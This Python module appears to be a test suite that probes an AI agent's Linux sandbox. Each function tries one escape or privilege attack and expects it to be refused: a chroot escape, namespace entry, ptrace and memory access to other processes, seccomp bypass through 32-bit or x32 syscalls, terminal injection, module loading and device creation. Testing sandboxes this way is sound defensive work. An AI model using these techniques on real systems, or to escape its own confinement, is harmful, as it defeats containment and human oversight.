"""Attacks by system calls on the kernel: mounts, namespaces, other processes' memory, privileges, clocks, modules.

Sources: mount(2), namespaces(7), capabilities(7), ptrace(2), open_by_handle_at(2), seccomp(2), keyrings(7), bpf(2).
"""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import platform
import resource
import signal
import struct
import subprocess
import time
from pathlib import Path

from .weapons import Denied, Facts, call, each, in_the_agent, libc, outsiders, refused_with, syscall, visible

NEW = {
    "user": 0x10000000,
    "mount": 0x00020000,
    "pid": 0x20000000,
    "net": 0x40000000,
    "ipc": 0x08000000,
    "uts": 0x04000000,
    "cgroup": 0x02000000,
    "time": 0x00000080,
}
HERE = -100  # AT_FDCWD

# ---------------------------------------------------------------- mounts and roots


def mount_a_tmpfs(facts: Facts) -> str:
    os.makedirs("mountpoint", exist_ok=True)
    call("mount", "none", "mountpoint", "tmpfs", 0, None)
    return "mounted a tmpfs"


def mount_proc_anew(facts: Facts) -> str:
    os.makedirs("mountpoint", exist_ok=True)
    call("mount", "proc", "mountpoint", "proc", 0, None)
    return "mounted a proc"


def bind_the_neighbours_workspace(facts: Facts) -> str:
    os.makedirs("mountpoint", exist_ok=True)
    call("mount", facts.neighbour.workspace, "mountpoint", None, 4096, None)
    return str(os.listdir("mountpoint"))


def remount_the_root_writable(facts: Facts) -> str:
    return each(lambda path: call("mount", None, path, None, 32 | 4096, None) == 0, ["/", "/usr", "/proc", "/etc"])


@refused_with(errno.EINVAL)
def make_mounts_shared_again(facts: Facts) -> str:
    call("mount", None, "/", None, (1 << 20) | 16384, None)
    return "mounts propagate"


@refused_with(errno.EINVAL)
def unmount_what_hides_the_host(facts: Facts) -> str:
    return each(lambda path: call("umount2", path, 2) == 0, ["/proc", "/tmp", "/dev", "/workspace", "/"], errno.EINVAL)


def use_the_new_mount_api(facts: Facts) -> str:
    return each(
        lambda attempt: attempt() >= 0,
        [
            lambda: syscall("fsopen", "tmpfs", 0),
            lambda: syscall("open_tree", HERE, "/", 1),  # OPEN_TREE_CLONE
            lambda: syscall("move_mount", HERE, "/tmp", HERE, "/tmp", 0),
            lambda: syscall("mount_setattr", HERE, "/", 0, ctypes.create_string_buffer(32), 32),
        ],
    )


def pivot_the_root(facts: Facts) -> str:
    syscall("pivot_root", ".", ".")
    return "pivoted"


def escape_by_chroot(facts: Facts) -> str:
    """The classic one: a root below a folder that is still open."""
    above = os.open("/", os.O_RDONLY)
    os.makedirs("cell", exist_ok=True)
    os.chroot("cell")
    os.fchdir(above)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    return str(os.listdir("/"))


def climb_above_the_root(facts: Facts) -> str:
    """By `..` of a descriptor, which stops at the root if the root is a root."""
    seen = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    above = os.open("/".join([".."] * 50), os.O_RDONLY | os.O_DIRECTORY, dir_fd=seen)
    mine, theirs = os.fstat(seen), os.fstat(above)
    return str(os.listdir(above)) if (mine.st_dev, mine.st_ino) != (theirs.st_dev, theirs.st_ino) else ""


# ---------------------------------------------------------------- namespaces


def _unshare(kind: str) -> str:
    call("unshare", NEW[kind])
    return f"has its own {kind} namespace"


@refused_with(errno.EINVAL, errno.ENOSPC)
def unshare_the_user_namespace(facts: Facts) -> str:
    return _unshare("user")


def unshare_the_mount_namespace(facts: Facts) -> str:
    return _unshare("mount")


def unshare_the_pid_namespace(facts: Facts) -> str:
    return _unshare("pid")


def unshare_the_net_namespace(facts: Facts) -> str:
    return _unshare("net")


def unshare_ipc_uts_cgroup_and_time(facts: Facts) -> str:
    return each(_unshare, ["ipc", "uts", "cgroup", "time"], errno.EINVAL)


@in_the_agent
@refused_with(errno.EINVAL, errno.ENOSPC)
def unshare_the_user_namespace_of_the_agent_itself(facts: Facts) -> str:
    return _unshare("user")


def clone_into_a_user_namespace(facts: Facts) -> str:
    child = syscall("clone", NEW["user"] | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "cloned"


def clone3_into_a_user_namespace(facts: Facts) -> str:
    """A filter can't look into clone3's structure; it has to refuse the call."""
    arguments = struct.pack("8Q", NEW["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = syscall("clone3", ctypes.create_string_buffer(arguments, 64), 64)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "cloned"


def unshare_by_the_tool(facts: Facts) -> str:
    """unshare(1), as a tool of an agent would."""
    done = subprocess.run(["unshare", "-Ur", "id"], capture_output=True, timeout=10, check=False)
    return done.stdout.decode() if done.returncode == 0 else ""


def enter_namespaces_of_others(facts: Facts) -> str:
    def enter(path: str) -> str:
        if os.stat(path).st_ino == os.stat(f"/proc/self/ns/{os.path.basename(path)}").st_ino:
            raise Denied("it is ours")
        descriptor = os.open(path, os.O_RDONLY)
        syscall("setns", descriptor, 0)
        return "entered"

    pids = {*visible(), *outsiders(facts)} - {os.getpid()}
    kinds = ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup")
    return each(enter, [f"/proc/{pid}/ns/{kind}" for pid in sorted(pids) for kind in kinds], errno.EINVAL)


def ask_for_the_parent_namespaces(facts: Facts) -> str:
    """NS_GET_PARENT, NS_GET_USERNS of ioctl_ns(2): a descriptor of what lies above is one to enter."""

    def above(kind: str) -> str:
        own = os.open(f"/proc/self/ns/{kind}", os.O_RDONLY)
        parent = call("ioctl", own, 0xB702)
        syscall("setns", parent, 0)
        return "entered the parent"

    return each(above, ["user", "pid"], errno.EINVAL, errno.ENOTTY)


@refused_with(errno.EINVAL)
def map_more_users(facts: Facts) -> str:
    def write(name: str) -> str:
        Path(f"/proc/self/{name}").write_text("allow" if name == "setgroups" else "0 0 4294967295")
        return "written"

    return each(write, ["setgroups", "uid_map", "gid_map"], errno.EINVAL)


# ---------------------------------------------------------------- other processes


def seize_processes_outside(facts: Facts) -> str:
    return each(lambda pid: syscall("ptrace", 0x4206, pid, 0, 0) == 0, outsiders(facts))  # PTRACE_SEIZE


def attach_to_processes_outside(facts: Facts) -> str:
    return each(lambda pid: syscall("ptrace", 16, pid, 0, 0) == 0, outsiders(facts))  # PTRACE_ATTACH


@in_the_agent
def make_the_keeper_a_tracer(facts: Facts) -> str:
    """PTRACE_TRACEME: whoever waits for the agent would be woken by its stops."""
    syscall("ptrace", 0, 0, 0, 0)
    return "is traced by its parent"


def read_memory_of_others(facts: Facts) -> str:
    buffer = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(buffer), 64)
    remote = struct.pack("QQ", 0x400000, 64)

    def read(pid: int) -> str:
        return f"{syscall('process_vm_readv', pid, local, 1, remote, 1, 0)} bytes"

    return each(read, outsiders(facts))


def write_memory_of_others(facts: Facts) -> str:
    """To where nothing is: EFAULT would say that only that was in the way."""
    buffer = ctypes.create_string_buffer(8)
    local, remote = struct.pack("QQ", ctypes.addressof(buffer), 1), struct.pack("QQ", 0, 1)
    return each(lambda pid: f"{syscall('process_vm_writev', pid, local, 1, remote, 1, 0)} bytes", outsiders(facts))


def open_memory_files_of_others(facts: Facts) -> str:
    def read(pid: int) -> str:
        with open(f"/proc/{pid}/mem", "rb"):
            return "opened"

    return each(read, outsiders(facts))


def take_descriptors_of_others(facts: Facts) -> str:
    def take(pid: int) -> str:
        handle = syscall("pidfd_open", pid, 0)
        return each(lambda number: f"took {syscall('pidfd_getfd', handle, number, 0)}", range(20), errno.EBADF)

    return each(take, outsiders(facts))


def compare_kernel_objects_of_others(facts: Facts) -> str:
    def compare(pid: int) -> str:
        return f"answered {syscall('kcmp', os.getpid(), pid, 1, 0, 0)}"

    return each(compare, outsiders(facts))


def move_memory_of_others(facts: Facts) -> str:
    def move(pid: int) -> str:
        return f"answered {syscall('migrate_pages', pid, 0, None, None)}"

    return each(move, outsiders(facts))


def advise_and_release_memory_of_others(facts: Facts) -> str:
    def release(pid: int) -> str:
        return f"answered {syscall('process_mrelease', syscall('pidfd_open', pid, 0), 0)}"

    return each(release, outsiders(facts))


# ---------------------------------------------------------------- privileges


def hold_privileges(facts: Facts) -> str:
    """None of them may be left, and none may come back by exec."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    expected = {"CapInh": 0, "CapPrm": 0, "CapEff": 0, "CapBnd": 0, "CapAmb": 0, "NoNewPrivs": 1, "Seccomp": 2}
    base = {name: 16 if name.startswith("Cap") else 10 for name in expected}
    return each(
        lambda name: status[name] if int(status[name], base[name]) != expected[name] else "",
        expected,
    )


def be_root(facts: Facts) -> str:
    attempts = {
        "setuid": lambda: os.setuid(0),
        "setresuid": lambda: os.setresuid(0, 0, 0),
        "setgid": lambda: os.setgid(0),
        "setgroups": lambda: os.setgroups([0]),
        "setfsuid": lambda: call("setfsuid", 0) if call("setfsuid", 0) == 0 else 1,
    }
    return each(lambda name: attempts[name]() in (None, 0), attempts, errno.EINVAL)


def take_the_neighbours_user_id(facts: Facts) -> str:
    if facts.neighbour.uid == os.getuid():
        raise Denied("sandboxes of an ordinary user have one user id; its namespaces tell them apart")
    os.setresuid(facts.neighbour.uid, facts.neighbour.uid, facts.neighbour.uid)
    return "is the neighbour's user"


def raise_capabilities(facts: Facts) -> str:
    header = ctypes.create_string_buffer(struct.pack("Ii", 0x20080522, 0))
    full = ctypes.create_string_buffer(struct.pack("6I", *[0xFFFFFFFF] * 6))
    syscall("capset", header, full)
    return "has capabilities"


def raise_ambient_capabilities(facts: Facts) -> str:
    return each(lambda capability: call("prctl", 47, 2, capability, 0, 0) == 0, range(41), errno.EINVAL)


def run_setuid_programs(facts: Facts) -> str:
    """Whose user id does a setuid program get? It waits for its input while we look."""

    def effective(program: str) -> str:
        running = subprocess.Popen(
            [program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            deadline = time.monotonic() + 0.2
            while time.monotonic() < deadline and running.poll() is None:
                status = Path(f"/proc/{running.pid}/status").read_text()
                uids = next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]
                if len({*uids, str(os.getuid())}) > 1:
                    return f"runs as {uids}"
                time.sleep(0.01)
            return ""
        finally:
            running.kill()
            running.communicate()

    folders = ("/usr/bin", "/usr/sbin", "/usr/lib/openssh")
    names = ("su", "sudo", "mount", "umount", "passwd", "chsh", "newgrp", "gpasswd", "newuidmap", "pkexec")
    programs = [f"{folder}/{name}" for folder in folders for name in names]
    return each(effective, [program for program in programs if os.path.exists(program)])


def mount_by_the_setuid_tool(facts: Facts) -> str:
    os.makedirs("mountpoint", exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "none", "mountpoint"], capture_output=True, timeout=10, check=False)
    return "mounted" if done.returncode == 0 else ""


def give_a_file_capabilities(facts: Facts) -> str:
    Path("tool").write_bytes(Path("/bin/true").read_bytes())
    os.setxattr("tool", "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
    return "gave a file all capabilities"


def loosen_the_filter_by_another(facts: Facts) -> str:
    """seccomp(2): a filter that allows all is added, not put in place of those before."""
    program = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)  # BPF_RET: SECCOMP_RET_ALLOW
    instructions = ctypes.create_string_buffer(program, len(program))
    filters = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(instructions)))
    syscall("seccomp", 1, 0, filters)
    return each(_unshare, NEW, errno.EINVAL)


def enter_by_the_32_bit_door(facts: Facts) -> str:
    """int 0x80 with getpid's i386 number: a filter for one architecture only would not see it."""
    if platform.machine() != "x86_64":
        raise Denied("an attack on x86_64")
    code = bytes.fromhex("53b814000000cd805bc3")  # push rbx; mov eax, 20; int 0x80; pop rbx; ret
    with mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as page:
        page.write(code)
        here = ctypes.c_char.from_buffer(page)
        child = os.fork()
        if child == 0:
            result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(here))()
            os._exit(1 if result == os.getpid() else 0)
        _, status = os.waitpid(child, 0)
        del here
    return "an i386 call was served" if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 1 else ""


def enter_by_the_x32_door(facts: Facts) -> str:
    """The same numbers with bit 30 set reach the same calls where the kernel has the x32 ABI."""
    if platform.machine() != "x86_64":
        raise Denied("an attack on x86_64")
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(0x40000000 | 39))
    return f"an x32 call was served: {result}" if result != -1 else ""


@refused_with(errno.EINVAL)
def change_the_personality(facts: Facts) -> str:
    """READ_IMPLIES_EXEC and ADDR_NO_RANDOMIZE: weaker programs to attack, setuid ones too on old kernels."""
    syscall("personality", 0x0400000 | 0x0040000)
    return "addresses are no longer random"


@refused_with(errno.EINVAL)
def edit_the_local_descriptor_table(facts: Facts) -> str:
    entry = ctypes.create_string_buffer(struct.pack("4I", 0, 0, 0xFFFFF, 0x51))
    syscall("modify_ldt", 1, entry, 16)
    return "wrote an entry"


def reach_io_ports(facts: Facts) -> str:
    return each(lambda attempt: attempt() == 0, [lambda: syscall("iopl", 3), lambda: syscall("ioperm", 0x80, 1, 1)])


# ---------------------------------------------------------------- the kernel's own affairs


def reboot(facts: Facts) -> str:
    """With magic numbers that mean nothing: EINVAL would say that only they were in the way."""
    syscall("reboot", 1, 1, 0, None)
    return "rebooted"


def load_another_kernel(facts: Facts) -> str:
    """With flags that mean nothing."""
    return each(
        lambda attempt: attempt() == 0,
        [
            lambda: syscall("kexec_load", 0, 1, None, 0xFFFFFFFF),
            lambda: syscall("kexec_file_load", -1, -1, 0, None, 0xFFFFFFFF),
        ],
    )


def load_modules(facts: Facts) -> str:
    """None that exists."""
    return each(
        lambda attempt: attempt() == 0,
        [
            lambda: syscall("init_module", None, 0, ""),
            lambda: syscall("finit_module", -1, "", 0),
            lambda: syscall("delete_module", f"no_{facts.mark}", 0x800),
        ],
    )


@refused_with(errno.EINVAL)
def swap_account_and_quota(facts: Facts) -> str:
    nowhere = f"/nowhere-{facts.mark}"

    def switch(name: str) -> bool:
        arguments = (0x800003 << 8, nowhere, 0, None) if name == "quotactl" else (nowhere, 0)
        return syscall(name, *arguments) == 0

    return each(switch, ["swapon", "swapoff", "acct", "quotactl"])


def read_the_kernels_log(facts: Facts) -> str:
    buffer = ctypes.create_string_buffer(4096)
    return f"{syscall('syslog', 3, buffer, 4096)} bytes of the log"


def set_the_clock(facts: Facts) -> str:
    """To what it shows."""

    def now() -> bytes:
        nanoseconds = time.time_ns()
        return struct.pack("qq", nanoseconds // 10**9, nanoseconds % 10**9)

    def adjust(name: str, *first: int) -> bool:
        state = ctypes.create_string_buffer(256)
        syscall(name, *first, state)
        ctypes.memmove(state, struct.pack("I", 0x4000), 4)  # ADJ_TICK, with the tick just read
        return syscall(name, *first, state) >= 0

    return each(
        lambda attempt: attempt(),
        [
            lambda: syscall("clock_settime", 0, now()) == 0,
            lambda: syscall("settimeofday", struct.pack("qq", int(time.time()), 0), None) == 0,
            lambda: adjust("adjtimex"),
            lambda: adjust("clock_adjtime", 0),
        ],
    )


def rename_the_host(facts: Facts) -> str:
    name = os.uname().nodename
    return each(lambda what: call(what, name, len(name)) == 0, ["sethostname", "setdomainname"])


def use_keyrings(facts: Facts) -> str:
    """They are the user's, not the sandbox's, and no namespace but the user's holds them apart."""
    return each(
        lambda attempt: f"key {attempt()}",
        [
            lambda: syscall("keyctl", 0, -3, 1),  # the session's keyring, made if need be
            lambda: syscall("keyctl", 0, -4, 0),  # the user's
            lambda: syscall("add_key", "user", facts.mark, b"x", 1, -3),
            lambda: syscall("request_key", "user", facts.mark, None, -3),
        ],
        errno.ENOKEY,
    )


def load_bpf(facts: Facts) -> str:
    request = ctypes.create_string_buffer(struct.pack("5I", 2, 4, 4, 1, 0), 128)  # an array of one entry
    return f"map {syscall('bpf', 0, request, 128)}"


def watch_with_perf(facts: Facts) -> str:
    """A software clock of our own, user space only: the least that perf can be asked."""
    attributes = struct.pack("IIQQQQQ", 1, 112, 1, 0, 0, 0, (1 << 5) | (1 << 6)).ljust(112, b"\0")
    return f"event {syscall('perf_event_open', ctypes.create_string_buffer(attributes, 112), 0, -1, -1, 0)}"


def use_io_uring(facts: Facts) -> str:
    return f"ring {syscall('io_uring_setup', 4, ctypes.create_string_buffer(120))}"


def use_userfaultfd(facts: Facts) -> str:
    return f"descriptor {syscall('userfaultfd', 1)}"  # UFFD_USER_MODE_ONLY


def watch_the_filesystem(facts: Facts) -> str:
    return f"fanotify group {syscall('fanotify_init', 0, 0)}"


def open_files_by_handle(facts: Facts) -> str:
    """Handles are guessable and know no root: inode 2 is the root of most filesystems."""

    def open_root(path: str) -> str:
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
        mount = ctypes.create_string_buffer(4)
        syscall("name_to_handle_at", HERE, path, handle, mount, 0)
        descriptor = syscall("open_by_handle_at", os.open(path, os.O_RDONLY), handle, os.O_RDONLY)
        return str(os.listdir(descriptor))

    return each(open_root, [".", "/", "/usr", "/tmp"], errno.EOPNOTSUPP, errno.EOVERFLOW, errno.ESTALE)


def make_devices(facts: Facts) -> str:
    def make(number: tuple[int, int]) -> str:
        os.mknod(f"device-{number[0]}-{number[1]}", 0o666 | 0o020000, os.makedev(*number))
        return "made"

    return each(make, [(1, 1), (1, 3), (1, 11), (10, 232)])


def make_block_devices(facts: Facts) -> str:
    def make(number: tuple[int, int]) -> str:
        os.mknod(f"disk-{number[0]}-{number[1]}", 0o666 | 0o060000, os.makedev(*number))
        return "made"

    return each(make, [(8, 0), (253, 0), (259, 0), (7, 0)])


def open_devices(facts: Facts) -> str:
    """Of all there are, only these are anybody's."""
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "stdin", "stdout", "stderr"}
    gained = []
    for folder, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(folder, name)
            if name in harmless or folder.startswith(("/dev/fd", "/dev/shm", "/dev/pts")):
                continue
            try:
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
                gained.append(path)
            except OSError:
                pass
    return " ".join(gained)


def type_into_terminals(facts: Facts) -> str:
    """TIOCSTI and TIOCLINUX on whatever terminal there may be."""

    def push(path: str) -> str:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        return each(lambda request: call("ioctl", terminal, request, b"\3") == 0, [0x5412, 0x541C], errno.ENOTTY)

    descriptors = [f"/proc/self/fd/{number}" for number in range(3)]
    return each(push, ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *descriptors], errno.ENOTTY, errno.EIO)


def type_into_a_terminal_of_its_own(facts: Facts) -> str:
    """TIOCSTI needs no foreign terminal to be tried: an own one will do, made the controlling one."""
    leader, follower = os.openpty()
    call("ioctl", follower, 0x540E, 0)  # TIOCSCTTY
    call("ioctl", follower, 0x5412, b"x")
    os.close(leader)
    return "typed"


def hang_up_the_terminal(facts: Facts) -> str:
    syscall("vhangup")
    return "hung up"


def dump_core(facts: Facts) -> str:
    """A program named by core_pattern would run on the host, as root; RLIMIT_CORE 0 does not stop that one."""
    if resource.getrlimit(resource.RLIMIT_CORE) != (0, 0):
        return f"the limit is {resource.getrlimit(resource.RLIMIT_CORE)}"
    child = os.fork()
    if child == 0:
        os.abort()
    _, status = os.waitpid(child, 0)
    return "a core was dumped" if os.WCOREDUMP(status) else ""


def sharpen_its_own_process(facts: Facts) -> str:
    """prctl(2) requests that move limits of address space or undo what jails lean on."""
    requests = {"PR_SET_MM": (35, 1, 0x400000), "PR_SET_SECUREBITS": (28, 0x2F, 0), "PR_SET_NO_NEW_PRIVS 0": (38, 0, 0)}
    return each(lambda name: call("prctl", *requests[name], 0, 0) == 0, requests, errno.EINVAL)
